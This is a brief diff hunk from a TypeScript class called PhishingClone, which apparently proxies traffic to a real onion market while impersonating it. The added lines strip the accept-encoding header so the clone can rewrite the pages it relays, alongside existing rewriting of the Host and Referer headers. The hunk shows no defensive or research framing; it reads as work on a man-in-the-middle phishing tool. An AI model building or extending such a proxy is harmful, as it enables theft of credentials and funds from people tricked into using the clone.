@@ -134,6 +134,8 @@ export class PhishingClone {
     const headers: http.OutgoingHttpHeaders = { ...req.headers, host: real[0] ?? this.#o.market.onion };
     delete headers.connection;
     delete headers['keep-alive'];
+    // The clone rewrites the pages it relays, so it asks the real market for them uncompressed.
+    delete headers['accept-encoding'];
     headers['content-length'] = String(body.length);
     if (typeof headers.referer === 'string') headers.referer = headers.referer.split(this.onion).join(real[0] ?? '');
     const upstream = await new Promise<http.IncomingMessage>((resolve, reject) => {
